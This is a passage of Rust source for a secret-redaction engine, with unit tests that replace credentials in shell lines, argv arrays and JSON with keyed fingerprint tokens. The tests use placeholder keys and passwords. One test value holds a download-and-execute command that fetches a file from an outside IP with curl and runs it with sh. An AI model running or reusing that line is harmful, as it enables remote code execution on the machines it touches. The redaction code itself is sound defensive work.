    /// `key` is the per-installation fingerprint key (32 random bytes from the state directory).
    pub fn new(key: &[u8], cfg: &RedactConfig) -> Result<Self, RedactError> {
        if let Some(name) = cfg.disable.iter().find(|d| !builtin_names().any(|b| b == d.as_str())) {
            return Err(RedactError::UnknownDisable { name: name.clone() });
        }
        let on = |name: &str| !cfg.disable.iter().any(|d| d == name);
        let mut rules = Vec::new();
        let mut rule_keywords: Vec<Vec<String>> = Vec::new();
        let mut names: Vec<String> = Vec::new();
        let mut add =
            |name: &str, pattern: &str, keywords: &[&str], check, rank, shape, spaced| -> Result<(), RedactError> {
                let regex = compile(name, pattern)?;
                let secret = regex.capture_names().position(|n| n == Some("secret"));
                rules.push(Rule { name: name.to_owned(), regex, secret, check, rank, shape, spaced });
                rule_keywords.push(keywords.iter().map(|k| (*k).to_owned()).collect());
                if !names.iter().any(|n| n == name) {
                    names.push(name.to_owned());
                }
                Ok(())
            };
        for b in BUILTINS.iter().filter(|b| on(b.name)) {
            add(b.name, b.pattern, b.keywords, b.check, b.rank, b.shape, false)?;
        }
        let options: Vec<&'static PasswordOption> = PASSWORD_OPTIONS.iter().filter(|o| on(o.rule)).collect();
        for o in &options {
            for pattern in option_patterns(o) {
                add(o.rule, &pattern, o.keywords, None, CONTEXT, o.shape, true)?;
            }
        }
        let active = |name: &str| names.iter().any(|n| n == name);
        let argv_rules = ArgvRules {
            password_flag: active("password_flag"),
            mysql: active("mysql_password"),
            sshpass: active("sshpass"),
            config_value: active("config_value"),
            options,
        };
        for spec in &cfg.rules {
            let name = &spec.name;
            let valid = (1..=40).contains(&name.len())
                && name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_' || b == b'-');
            if !valid {
                return Err(RedactError::BadName { name: name.clone() });
            }
            if name == LARGE_SHARE {
                return Err(RedactError::Reserved { name: name.clone() });
            }
            // A disabled built-in's name is free, for a user rule that replaces it.
            if names.contains(name) {
                return Err(RedactError::Duplicate { name: name.clone() });
            }
            let regex = compile(name, &spec.pattern)?;
            let secret = regex.capture_names().position(|n| n == Some("secret"));
            // Someone wrote it for their own secrets' format: as telling as a vendor's.
            rules.push(Rule {
                name: name.clone(),
                regex,
                secret,
                check: None,
                rank: VENDOR,
                shape: VALUE,
                spaced: false,
            });
            rule_keywords
                .push(spec.keywords.iter().filter(|k| !k.is_empty()).map(|k| k.to_ascii_lowercase()).collect());
            names.push(name.clone());
        }
        let allow = cfg
            .allow
            .iter()
            .map(|p| {
                Regex::new(&format!(r"\A(?:{p})\z"))
                    .map_err(|e| RedactError::InvalidAllow { pattern: p.clone(), reason: reason(&e) })
            })
            .collect::<Result<_, _>>()?;

        let mut patterns = vec![TOKEN_OPEN.to_ascii_lowercase()];
        let mut keyword_rules: Vec<Vec<usize>> = vec![Vec::new()];
        let mut always = Vec::new();
        for (rule, keywords) in rule_keywords.into_iter().enumerate() {
            if keywords.is_empty() {
                always.push(rule);
            }
            for k in keywords {
                let id = patterns.iter().position(|p| *p == k).unwrap_or_else(|| {
                    patterns.push(k);
                    keyword_rules.push(Vec::new());
                    patterns.len() - 1
                });
                keyword_rules[id].push(rule);
            }
        }
        let keywords = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&patterns)
            .map_err(|source| RedactError::Keywords { source })?;
        let token = compile("token", r"\[REDACTED:[a-z0-9_-]{1,40}:[0-9a-f]{12}\]")?;
        // HMAC takes keys of any length (long ones are hashed), so this cannot fail.
        let mac = Hmac::<Sha256>::new_from_slice(key).expect("HMAC accepts any key length");
        Ok(Self { mac, rules, keywords, keyword_rules, always, token, allow, names, argv_rules })
    }

    /// The keyword prefilter: false means no rule can match `s` and it holds no earlier token.
    pub fn is_candidate(&self, s: &str) -> bool {
        !self.always.is_empty() || self.keywords.is_match(s)
    }

    /// Replace every secret in `s` in place; adds the rule names to `hits` (and [`LARGE_SHARE`]
    /// when that much of `s` was replaced). Returns true if it changed anything.
    pub fn text(&self, s: &mut String, hits: &mut Hits) -> bool {
        // Most strings hold no keyword: answer them with the cheapest search there is.
        if !self.is_candidate(s) {
            return false;
        }
        // A token can give its neighbour a word boundary it did not have, so a second run could
        // find more: repeat until nothing changes, so that what is stored is a fixed point. Each
        // round turns secret text into tokens, which are never matched again, so this ends soon.
        let (len, mut replaced) = (s.len(), 0);
        let mut changed = false;
        for _ in 0..8 {
            if !self.text_round(s, hits, &mut replaced) {
                break;
            }
            changed = true;
        }
        if large_share(replaced, len) {
            add_hit(hits, LARGE_SHARE);
        }
        changed
    }

    /// One round of [`Self::text`]; adds the length of the text it replaced to `replaced`.
    fn text_round(&self, s: &mut String, hits: &mut Hits, replaced: &mut usize) -> bool {
        // A bit per rule, inline for any realistic rule count so the fast path does not allocate.
        let mut inline = [0u64; 4];
        let mut heap;
        let words = self.rules.len().div_ceil(64);
        let on: &mut [u64] = if words <= inline.len() {
            &mut inline[..words]
        } else {
            heap = vec![0; words];
            &mut heap
        };
        let (mut any_rule, mut saw_token) = (!self.always.is_empty(), false);
        for &r in &self.always {
            on[r / 64] |= 1 << (r % 64);
        }
        for m in self.keywords.find_overlapping_iter(s.as_str()) {
            let id = m.pattern().as_usize();
            saw_token |= id == MARKER;
            for &r in &self.keyword_rules[id] {
                on[r / 64] |= 1 << (r % 64);
                any_rule = true;
            }
        }
        if !any_rule && !saw_token {
            return false;
        }
        let mut found = Vec::new();
        let mut from = 0;
        if saw_token {
            for t in self.token.find_iter(s) {
                self.scan(&s[from..t.start()], from, on, &mut found);
                add_hit(hits, &s[t.start() + TOKEN_OPEN.len()..t.end() - TOKEN_TAIL]);
                from = t.end();
            }
        }
        self.scan(&s[from..], from, on, &mut found);
        if found.is_empty() {
            return false;
        }
        found.sort_unstable_by(|x, y| {
            (x.start, y.end, self.rules[y.rule].rank, x.rule).cmp(&(y.start, x.end, self.rules[x.rule].rank, y.rule))
        });
        let mut out = String::with_capacity(s.len() + 40 * found.len());
        let mut done = 0;
        for f in &found {
            if f.start < done {
                continue;
            }
            out.push_str(&s[done..f.start]);
            let name = &self.rules[f.rule].name;
            self.push_token(&mut out, name, &s[f.start..f.end]);
            add_hit(hits, name);
            *replaced += f.end - f.start;
            done = f.end;
        }
        out.push_str(&s[done..]);
        *s = out;
        true
    }

    /// Collect the spans the switched-on rules find in `seg` (text between tokens at `base`).
    fn scan(&self, seg: &str, base: usize, on: &[u64], found: &mut Vec<Span>) {
        if seg.is_empty() {
            return;
        }
        let blank = std::cell::OnceCell::new();
        for (i, rule) in self.rules.iter().enumerate().filter(|(i, _)| on[i / 64] & (1 << (i % 64)) != 0) {
            if rule.spaced && !*blank.get_or_init(|| seg.bytes().any(|b| b == b' ' || b == b'\t')) {
                continue;
            }
            for m in rule.regex.find_iter(seg) {
                let (mut a, mut b) = (m.start(), m.end());
                if rule.secret.is_some() || rule.check.is_some() {
                    let Some(caps) = rule.regex.captures_at(seg, a) else { continue };
                    if rule.check.is_some_and(|check| !check(&caps)) {
                        continue;
                    }
                    match rule.secret.map(|g| caps.get(g)) {
                        Some(Some(g)) => (a, b) = (g.start(), g.end()),
                        Some(None) => continue,
                        None => {}
                    }
                }
                // A quoted value keeps its quotes, so the shell line still reads right.
                let bytes = seg.as_bytes();
                if a < b && matches!(bytes[a], b'"' | b'\'') {
                    (a, b) = (a + 1, if b - a >= 2 && bytes[b - 1] == bytes[a] { b - 1 } else { b });
                }
                if rule.shape.values {
                    for (x, y) in pair_values(&seg[a..b]) {
                        if rule.shape.fits(&seg[a + x..a + y]) && !self.allowed(&seg[a + x..a + y]) {
                            found.push(Span { start: base + a + x, end: base + a + y, rule: i });
                        }
                    }
                } else if a < b && rule.shape.fits(&seg[a..b]) && !self.allowed(&seg[a..b]) {
                    found.push(Span { start: base + a, end: base + b, rule: i });
                }
            }
        }
    }

    fn allowed(&self, secret: &str) -> bool {
        self.allow.iter().any(|r| r.is_match(secret))
    }

    /// An argv: applies `text` to every element, plus the rules that span two elements (an
    /// option or a name and its value) or read a whole element (`--password=…`).
    pub fn argv(&self, argv: &mut [String], hits: &mut Hits) -> bool {
        if !argv.iter().any(|a| self.is_candidate(a)) {
            return false;
        }
        let mut changed = false;
        for i in 0..argv.len() {
            let (head, tail) = argv.split_at_mut(i + 1);
            let arg = &mut head[i];
            let program = arg.rsplit('/').next().unwrap_or(arg).to_owned();
            if self.argv_rules.password_flag {
                if is_secret_flag(arg) {
                    if let Some(value) = tail.first_mut().filter(|v| is_value(v)) {
                        changed |= self.replace_from(value, 0, "password_flag", VALUE, hits);
                    }
                } else if let Some(at) = arg.find('=').filter(|&at| is_secret_flag(&arg[..at])) {
                    // The whole rest of the element: the shell did the quoting.
                    changed |= self.replace_from(arg, at + 1, "password_flag", VALUE, hits);
                }
            }
            if self.argv_rules.config_value && matches!(program.as_str(), "config" | "configure") {
                changed |= self.config_args(tail, hits);
            }
            if self.argv_rules.sshpass && program == "sshpass" {
                changed |= self.sshpass_args(tail, hits);
            }
            if self.argv_rules.mysql && MYSQL_PROGRAMS.contains(&program.as_str()) {
                for a in tail.iter_mut() {
                    if a.starts_with("-p") {
                        changed |= self.replace_from(a, 2, "mysql_password", VALUE, hits);
                    }
                }
            }
            for o in self.argv_rules.options.iter().filter(|o| o.programs.contains(&program.as_str())) {
                changed |= self.option_args(o, tail, hits);
            }
        }
        for a in argv.iter_mut() {
            changed |= self.text(a, hits);
        }
        changed
    }

    /// sshpass's own options come before the command it runs; `-p` there takes the password.
    fn sshpass_args(&self, args: &mut [String], hits: &mut Hits) -> bool {
        let mut j = 0;
        while j < args.len() {
            let a = args[j].as_str();
            if a == "-p" {
                return args.get_mut(j + 1).is_some_and(|v| self.replace_from(v, 0, "sshpass", VALUE, hits));
            }
            if a.starts_with("-p") {
                return self.replace_from(&mut args[j], 2, "sshpass", VALUE, hits);
            }
            if !a.starts_with('-') {
                return false;
            }
            j += if matches!(a, "-f" | "-d" | "-P") { 2 } else { 1 };
        }
        false
    }

    /// `config [set] [--flags] NAME VALUE`, as the `config_value` pattern reads a shell line.
    fn config_args(&self, args: &mut [String], hits: &mut Hits) -> bool {
        let skip = args.iter().take(4).take_while(|a| a.as_str() == "set" || a.starts_with('-')).count();
        match &mut args[skip..] {
            [name, value, ..] if is_config_name(name) && is_value(value) => {
                self.replace_from(value, 0, "config_value", VALUE, hits)
            }
            _ => false,
        }
    }

    /// The arguments after a program of `o`: its options and their values.
    fn option_args(&self, o: &PasswordOption, args: &mut [String], hits: &mut Hits) -> bool {
        let from = match o.after {
            None => 0,
            Some(word) => match args.iter().position(|a| a == word) {
                Some(p) => p + 1,
                None => return false,
            },
        };
        let mut changed = false;
        let mut j = from;
        while j < args.len() {
            let a = args[j].as_str();
            // The element that holds the value, and where in it the value starts.
            let value = if o.flags.contains(&a) {
                (o.separate && args.get(j + 1).is_some_and(|v| is_value(v))).then_some((j + 1, 0))
            } else if let Some(f) =
                o.flags.iter().find(|f| f.starts_with("--") && a.strip_prefix(**f).is_some_and(|r| r.starts_with('=')))
            {
                Some((j, f.len() + 1))
            } else if o.attached && a.len() > 2 && o.flags.iter().any(|f| f.len() == 2 && a.starts_with(*f)) {
                Some((j, if a.as_bytes()[2] == b'=' { 3 } else { 2 }))
            } else {
                None
            };
            if let Some((k, at)) = value {
                changed |= self.option_value(o, &mut args[k], at, hits);
                j = k;
            }
            j += 1;
        }
        changed
    }

    /// The secret in an option's argument from `at`, by the option's [`OptionArg`].
    fn option_value(&self, o: &PasswordOption, arg: &mut String, at: usize, hits: &mut Hits) -> bool {
        let Some(value) = arg.get(at..) else { return false };
        let at = match o.arg {
            OptionArg::Whole => at,
            OptionArg::Prefix(p) if value.starts_with(p) => at + p.len(),
            OptionArg::After(c) => match value.find(c) {
                Some(k) => at + k + c.len_utf8(),
                None => return false,
            },
            OptionArg::Cookies if value.contains('=') => {
                let ranges: Vec<_> = pair_values(value).map(|(x, y)| (at + x, at + y)).collect();
                return self.replace_ranges(arg, &ranges, o.rule, o.shape, hits);
            }
            OptionArg::Prefix(_) | OptionArg::Cookies => return false,
        };
        self.replace_from(arg, at, o.rule, o.shape, hits)
    }

    /// Replace the rest of a whole argv element from byte `at` (see [`Self::replace_ranges`]).
    fn replace_from(&self, arg: &mut String, at: usize, rule: &str, shape: Shape, hits: &mut Hits) -> bool {
        let end = arg.len();
        self.replace_ranges(arg, &[(at, end)], rule, shape, hits)
    }

    /// Replace byte ranges (in order) of an argv element, each unless it is empty, longer than
    /// `shape` allows, allowed or already (partly) redacted.
    fn replace_ranges(
        &self,
        arg: &mut String,
        ranges: &[(usize, usize)],
        rule: &str,
        shape: Shape,
        hits: &mut Hits,
    ) -> bool {
        let mut out = String::new();
        let (mut done, mut replaced) = (0, 0);
        for &(x, y) in ranges {
            let Some(secret) = arg.get(x..y) else { continue };
            if x < done
                || secret.is_empty()
                || secret.contains(TOKEN_OPEN)
                || !shape.fits(secret)
                || self.allowed(secret)
            {
                continue;
            }
            out.push_str(&arg[done..x]);
            self.push_token(&mut out, rule, secret);
            (done, replaced) = (y, replaced + secret.len());
        }
        if replaced == 0 {
            return false;
        }
        out.push_str(&arg[done..]);
        if large_share(replaced, arg.len()) {
            add_hit(hits, LARGE_SHARE);
        }
        *arg = out;
        add_hit(hits, rule);
        true
    }

    /// Walk a JSON value: every string goes through `text`; every array whose elements are all
    /// strings is treated as an argv (`argv`); object keys are left alone.
    pub fn json(&self, v: &mut Value, hits: &mut Hits) -> bool {
        match v {
            Value::String(s) => self.text(s, hits),
            Value::Array(items) if items.iter().all(Value::is_string) => {
                if !items.iter().filter_map(Value::as_str).any(|s| self.is_candidate(s)) {
                    return false;
                }
                let mut args: Vec<String> = items
                    .iter_mut()
                    .filter_map(|x| if let Value::String(s) = x { Some(std::mem::take(s)) } else { None })
                    .collect();
                let changed = self.argv(&mut args, hits);
                for (item, a) in items.iter_mut().zip(args) {
                    *item = Value::String(a);
                }
                changed
            }
            Value::Array(items) => items.iter_mut().fold(false, |c, x| self.json(x, hits) | c),
            Value::Object(map) => map.values_mut().fold(false, |c, x| self.json(x, hits) | c),
            _ => false,
        }
    }

    /// The keyed fingerprint of a secret: the first 12 lowercase hex digits of HMAC-SHA256(key, secret).
    pub fn fingerprint(&self, secret: &str) -> String {
        let mut out = String::with_capacity(12);
        self.push_fingerprint(&mut out, secret);
        out
    }

    fn push_fingerprint(&self, out: &mut String, secret: &str) {
        let mut mac = self.mac.clone();
        mac.update(secret.as_bytes());
        for b in &mac.finalize().into_bytes()[..6] {
            let _ = write!(out, "{b:02x}");
        }
    }

    fn push_token(&self, out: &mut String, rule: &str, secret: &str) {
        out.push_str(TOKEN_OPEN);
        out.push_str(rule);
        out.push(':');
        self.push_fingerprint(out, secret);
        out.push(']');
    }

    /// Names of the active rules (built-in minus disabled, plus user rules), for the startup log.
    pub fn rule_names(&self) -> Vec<String> {
        self.names.clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &[u8] = &[7; 32];
    const GHP: &str = "ghp_0123456789abcdefghijklmnopqrstuvwxyz";
    const ANT: &str = "sk-ant-api03-Abcdefghij0123456789Abcdefghij0123456789AbcDEF";
    const AWS: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    /// A whole line of a PEM body.
    const PEM_LINE: &str = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";

    fn engine() -> &'static Redactor {
        static R: std::sync::OnceLock<Redactor> = std::sync::OnceLock::new();
        R.get_or_init(|| Redactor::new(KEY, &RedactConfig::default()).expect("built-in rules"))
    }

    fn tok(rule: &str, secret: &str) -> String {
        format!("[REDACTED:{rule}:{}]", engine().fingerprint(secret))
    }

    fn text(s: &str) -> (String, Vec<String>) {
        let (mut s, mut hits) = (s.to_owned(), Hits::new());
        engine().text(&mut s, &mut hits);
        (s, hits.into_iter().collect())
    }

    fn argv(args: &[&str]) -> (Vec<String>, Vec<String>) {
        let (mut v, mut hits) = (args.iter().map(|&a| a.to_owned()).collect::<Vec<_>>(), Hits::new());
        engine().argv(&mut v, &mut hits);
        (v, hits.into_iter().collect())
    }

    #[test]
    fn each_builtin_rule_redacts_only_the_secret() {
        let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLWZha2U";
        let pem = format!("-----BEGIN RSA PRIVATE KEY-----\n{PEM_LINE}\nMIIEfake\n-----END RSA PRIVATE KEY-----");
        let cut = format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{PEM_LINE}\nb3BlbnNz");
        let cases = [
            ("aws_access_key", "aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
            ("github_token", &format!("git push {GHP}"), GHP),
            ("github_token", &format!("/tmp/{GHP}/x"), GHP),
            (
                "github_token",
                "x github_pat_11ABCDEFG0123456789_abcdefghij y",
                "github_pat_11ABCDEFG0123456789_abcdefghij",
            ),
            ("gitlab_token", "glpat-xxxxxxxxxxxxxxxxxxxx1", "glpat-xxxxxxxxxxxxxxxxxxxx1"),
            ("slack_token", "xoxb-1234567890-abcdefABCDEF", "xoxb-1234567890-abcdefABCDEF"),
            (
                "slack_token",
                "https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX",
                "T000/B000/XXXXXXXXXXXXXXXX",
            ),
            ("anthropic_api_key", ANT, ANT),
            ("openai_api_key", "sk-proj-Abc123def456ghi789jkl012mno345", "sk-proj-Abc123def456ghi789jkl012mno345"),
            (
                "google_api_key",
                "key=AIzaSyA-1234567890abcdefghijklmnopqrstu",
                "AIzaSyA-1234567890abcdefghijklmnopqrstu",
            ),
            ("stripe_key", "sk_live_0123456789abcdefABCD", "sk_live_0123456789abcdefABCD"),
            ("jwt", &format!("cookie: session={jwt}; x"), jwt),
            ("private_key", &format!("echo '{pem}' > k"), &format!("\n{PEM_LINE}\nMIIEfake\n")),
            ("private_key", &cut, &format!("\n{PEM_LINE}\nb3BlbnNz")),
            ("url_password", "psql postgres://u:pw@h/db", "pw"),
            ("url_password", "redis://:p@ss@cache:6379/0", "p@ss"),
            ("authorization", "curl -H 'Authorization: Bearer abc.def-123456' x", "abc.def-123456"),
            ("authorization", "Proxy-Authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
            ("authorization", "got bearer Zm9vYmFy0123 back", "Zm9vYmFy0123"),
            ("authorization", r#"{"Authorization": "Basic dXNlcjpwYXNz"}"#, "dXNlcjpwYXNz"),
            ("password_flag", "app --password=hunter2 --verbose", "hunter2"),
            ("password_flag", "bash -c 'mysql --password hunter2'", "hunter2"),
            ("password_flag", "tool --API-KEY \"a b\"", "a b"),
            ("mysql_password", "/usr/bin/mysql -uroot -pS3cret db", "S3cret"),
            ("sshpass", "sshpass -p pw ssh host", "pw"),
            ("sshpass", "sshpass -e -ppw ssh host", "pw"),
            ("secret_assignment", &format!("AWS_SECRET_ACCESS_KEY={AWS} aws s3 ls"), AWS),
            ("secret_assignment", "export DB_PASS=abc; make", "abc"),
            ("secret_assignment", "PASSWORD='x y' ./run", "x y"),
            ("secret_assignment", "TOKEN=\"cutoff", "cutoff"),
            ("secret_assignment", r#"{"client_secret": "s3cr3t"}"#, "s3cr3t"),
        ];
        for (rule, input, secret) in cases {
            let mut want = vec![rule.to_owned()];
            if large_share(secret.len(), input.len()) {
                want.insert(0, LARGE_SHARE.to_owned());
            }
            assert_eq!(text(input), (input.replacen(secret, &tok(rule, secret), 1), want), "{input}");
        }
        assert_eq!(engine().rule_names().len(), 20);
    }

    #[test]
    fn near_misses_are_left_alone() {
        for s in [
            "da39a3ee5e6b4b0d3255bfef95601890afd80709 3f2a9c1 f47ac10b-58cc-4372-a567-0e02b2c3d479",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "/home/u/tokens/list.txt /srv/secret-santa/index.html /usr/share/doc/password-store/README",
            "app --password-file=/etc/x --token-file /run/x; docker login --password-stdin -u me",
            "PASSWORD_FILE=/run/secrets/db TOKEN= GIT_AUTHOR_NAME=me BYPASS_CACHE=1 MAX_TOKENS=4096 PWD=/x",
            "pip install sk-learn risk-free task-1 /tmp/sk-learn-tutorial-examples-2024",
            "https://user@host/x https://host:8443/x postgres://postgres@localhost/db?host=/tmp",
            "Authorization is required; the bearer of bad news; Bearer",
            "Authorization: Bearer",
            "/usr/lib/x86_64-linux-gnu/libssl.so.3 AKIAabcdefghijklmnop AKIA1234",
            "eyJmb28iOiJiYXIifQ== eyJhbGciOiJIUzI1NiJ9",
            "mysql -uroot -p db; mysql -P3306 -h host; ssh -p 22 host",
        ] {
            assert_eq!(text(s), (s.to_owned(), vec![]), "{s}");
        }
        for args in [
            &["mkdir", "-p", "/tmp/x"][..],
            &["ssh", "-p", "22", "host"],
            &["grep", "-p"],
            &["tar", "-xzf", "f"],
            &["mysql", "-p"],
            &["app", "--token-file", "/run/x"],
            &["app", "--password", "--user"],
            &["pg_dump", "--no-password", "db"],
            &["ansible-playbook", "--ask-vault-pass", "site.yml"],
        ] {
            assert_eq!(argv(args), (args.iter().map(|&a| a.to_owned()).collect(), vec![]), "{args:?}");
        }
    }

    #[test]
    fn argv_cases() {
        let (v, hits) = argv(&["curl", "-H", "Authorization: Bearer abc.def-123456"]);
        assert_eq!(
            (v[2].clone(), hits),
            (format!("Authorization: Bearer {}", tok("authorization", "abc.def-123456")), vec!["authorization".into()])
        );
        let (v, _) = argv(&["bash", "-c", &format!("AWS_SECRET_ACCESS_KEY={AWS} aws s3 ls")]);
        assert_eq!(v[2], format!("AWS_SECRET_ACCESS_KEY={} aws s3 ls", tok("secret_assignment", AWS)));
        let (v, _) = argv(&["env", &format!("AWS_SECRET_ACCESS_KEY={AWS}"), "aws", "s3", "ls"]);
        assert_eq!(v[1], format!("AWS_SECRET_ACCESS_KEY={}", tok("secret_assignment", AWS)));
        let (v, hits) = argv(&["git", "push", GHP, ANT]);
        assert_eq!(
            (&v[2..], hits),
            (
                &[tok("github_token", GHP), tok("anthropic_api_key", ANT)][..],
                vec!["anthropic_api_key".into(), "github_token".into()]
            )
        );
        let (v, hits) = argv(&["mysql", "--password", "hunter2"]);
        assert_eq!((v[2].clone(), hits), (tok("password_flag", "hunter2"), vec!["password_flag".into()]));
        let (v, hits) = argv(&["sshpass", "-p", "pw", "ssh", "-p", "22", "host"]);
        assert_eq!(
            (v, hits),
            (
                vec![
                    "sshpass".into(),
                    "-p".into(),
                    tok("sshpass", "pw"),
                    "ssh".into(),
                    "-p".into(),
                    "22".into(),
                    "host".into()
                ],
                vec!["sshpass".into()]
            )
        );
        let (v, hits) = argv(&["/usr/bin/mysql", "-uroot", "-pS3cret", "db"]);
        assert_eq!(
            (v[2].clone(), hits),
            (format!("-p{}", tok("mysql_password", "S3cret")), vec!["mysql_password".into()])
        );
    }

    #[test]
    fn the_specific_rule_wins_and_replaces_once() {
        let (s, hits) = text(&format!("export GITHUB_TOKEN={GHP}; Authorization: Bearer {ANT}"));
        assert_eq!(
            s,
            format!(
                "export GITHUB_TOKEN={}; Authorization: Bearer {}",
                tok("github_token", GHP),
                tok("anthropic_api_key", ANT)
            )
        );
        // 148 of its 196 bytes were replaced.
        assert_eq!(hits, ["anthropic_api_key", "github_token", LARGE_SHARE]);
    }

    #[test]
    fn fingerprints_are_keyed_and_stable() {
        let r = engine();
        assert_eq!(r.fingerprint("hunter2"), r.fingerprint("hunter2"));
        assert_ne!(r.fingerprint("hunter2"), r.fingerprint("hunter3"));
        let other = Redactor::new(&[8; 32], &RedactConfig::default()).expect("rules");
        assert_ne!(r.fingerprint("hunter2"), other.fingerprint("hunter2"));
        assert!(
            r.fingerprint("x").bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
                && r.fingerprint("x").len() == 12
        );
        let (s, _) = text("A_TOKEN=hunter2 --pass hunter2");
        assert_eq!(s.matches(&r.fingerprint("hunter2")).count(), 2);
    }

    #[test]
    fn a_second_pass_changes_nothing_and_reports_the_same_hits() {
        let r = engine();
        let mut s = format!(
            "DB_PASSWORD=\"pw\" mysql -pS3cret; curl -H 'Authorization: Bearer abc.def-123456' https://u:p@h/{GHP} \
             -----BEGIN EC PRIVATE KEY-----\n{PEM_LINE}\nxyz\n-----END EC PRIVATE KEY----- sshpass -p pw2 ssh h --token x"
        );
        let (mut hits1, mut hits2) = (Hits::new(), Hits::new());
        assert!(r.text(&mut s, &mut hits1));
        let mut again = s.clone();
        assert!(!r.text(&mut again, &mut hits2));
        assert_eq!((again, hits2.len()), (s, 8));
        assert_eq!(hits1, hits2);
        let mut v: Vec<String> = ["mysql", "--password", "x", "-pS3cret"].map(String::from).to_vec();
        let (mut hits1, mut hits2) = (Hits::new(), Hits::new());
        assert!(r.argv(&mut v, &mut hits1));
        let once = v.clone();
        assert!(!r.argv(&mut v, &mut hits2));
        assert_eq!((v, hits2), (once, hits1));
        // The new shapes of issue 20 too, in a line and in an argv.
        let mut s = format!(
            "curl -u me:pw1 -H 'Cookie: a=1; b=2' -H 'X-Api-Key: k3y' https://{}@h/x?sig=s1g\n\
             docker login -p pw2 r; aws configure set aws_secret_access_key {AWS}\n\
             cat <<EOF\npassword: pw3\n{{'token': 'a b'}}\nEOF\n\
             X_TOKEN='echo one; curl -s http://198.51.100.7/x -o /tmp/x; sh /tmp/x; echo two' sh -c \"$X_TOKEN\"",
            "abcdef0123456789abcdef0123456789"
        );
        let (mut hits1, mut hits2) = (Hits::new(), Hits::new());
        assert!(r.text(&mut s, &mut hits1));
        let mut again = s.clone();
        assert!(!r.text(&mut again, &mut hits2));
        assert_eq!(again, s);
        assert_eq!(
            hits2.into_iter().collect::<Vec<_>>(),
            ["config_value", "cookie", "password_option", "secret_assignment", "url_token"]
        );
        let mut v: Vec<String> =
            ["curl", "-u", "me:pw1", "-b", "a=1; b=2", "--token=x", "--", "docker", "login", "-p", "pw2"]
                .map(String::from)
                .to_vec();
        let (mut hits1, mut hits2) = (Hits::new(), Hits::new());
        assert!(r.argv(&mut v, &mut hits1));
        let once = v.clone();
        assert!(!r.argv(&mut v, &mut hits2));
        assert_eq!((v, hits2), (once, hits1));
        let stored = "DB_PASSWORD=[REDACTED:secret_assignment:0123456789ab]";
        assert_eq!(text(stored), (stored.to_owned(), vec!["secret_assignment".into()]));
    }

    #[test]
    fn user_rules_allowlist_and_disable() {
        let rule = |name: &str, pattern: &str, kw: &[&str]| RuleSpec {
            name: name.into(),
            pattern: pattern.into(),
            keywords: kw.iter().map(|&k| k.into()).collect(),
        };
        let cfg = RedactConfig {
            rules: vec![
                rule("acme_id", "ACME-[0-9]{6}", &["acme-"]),
                rule("session", "sid=(?P<secret>[0-9a-f]{8})", &[]),
            ],
            allow: vec!["hunter2".into(), "AKIA[A-Z0-9]*EXAMPLE".into()],
            disable: vec!["jwt".into()],
        };
        let r = Redactor::new(KEY, &cfg).expect("valid config");
        assert!(
            r.rule_names().ends_with(&["acme_id".into(), "session".into()]) && !r.rule_names().contains(&"jwt".into())
        );
        assert!(r.is_candidate("/usr/lib"), "a rule without keywords runs on everything");
        let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl";
        let (mut s, mut hits) =
            (format!("acme-1 ACME-123456 sid=deadbeef --password hunter2 AKIAIOSFODNN7EXAMPLE {jwt}"), Hits::new());
        assert!(r.text(&mut s, &mut hits));
        let (acme, sid) = (r.fingerprint("ACME-123456"), r.fingerprint("deadbeef"));
        assert_eq!(s, format!("acme-1 [REDACTED:acme_id:{acme}] sid=[REDACTED:session:{sid}] --password hunter2 AKIAIOSFODNN7EXAMPLE {jwt}"));
        assert_eq!(hits.into_iter().collect::<Vec<_>>(), ["acme_id", "session"]);

        let err = |rules: Vec<RuleSpec>, allow: &[&str], disable: &[&str]| {
            let cfg = RedactConfig {
                rules,
                allow: allow.iter().map(|&a| a.into()).collect(),
                disable: disable.iter().map(|&d| d.into()).collect(),
            };
            Redactor::new(KEY, &cfg).expect_err("must fail").to_string()
        };
        assert_eq!(
            err(vec![rule("my_rule", "(", &[])], &[], &[]),
            "redaction rule `my_rule` is not valid: unclosed group"
        );
        assert_eq!(
            err(vec![rule("Bad Name", "x", &[])], &[], &[]),
            "redaction rule name `Bad Name` must be 1-40 characters of a-z, 0-9, _ and -"
        );
        assert_eq!(
            err(vec![rule("x", "a", &[]), rule("x", "b", &[])], &[], &[]),
            "redaction rule `x` is defined twice"
        );
        assert_eq!(err(vec![rule("jwt", "a", &[])], &[], &[]), "redaction rule `jwt` is defined twice");
        assert_eq!(
            err(vec![rule("large_share", "a", &[])], &[], &[]),
            "redaction rule name `large_share` is reserved for the mark of a large redacted share"
        );
        assert!(Redactor::new(
            KEY,
            &RedactConfig { disable: vec!["password_option".into(), "cookie".into()], ..RedactConfig::default() }
        )
        .is_ok_and(
            |r| !r.rule_names().contains(&"cookie".into()) && !r.rule_names().contains(&"password_option".into())
        ));
        assert_eq!(err(vec![], &["("], &[]), "redaction allow pattern `(` is not valid: unclosed group");
        assert_eq!(
            err(vec![], &[], &["nope"]),
            "cannot disable redaction rule `nope`: there is no built-in rule by that name"
        );
        assert!(
            serde_json::from_str::<RedactConfig>(r#"{"rules": [{"name": "a", "pattern": "b"}], "rulez": []}"#).is_err()
        );
    }

    #[test]
    fn json_walk() {
        let mut v = serde_json::json!({
            "argv": ["mysql", "-pS3cret"], "path": format!("/tmp/{GHP}/f"), "dns": {"queries": ["x.example"]}, "mixed": [1, "--token=abc"],
        });
        let mut hits = Hits::new();
        assert!(engine().json(&mut v, &mut hits));
        let want = serde_json::json!({
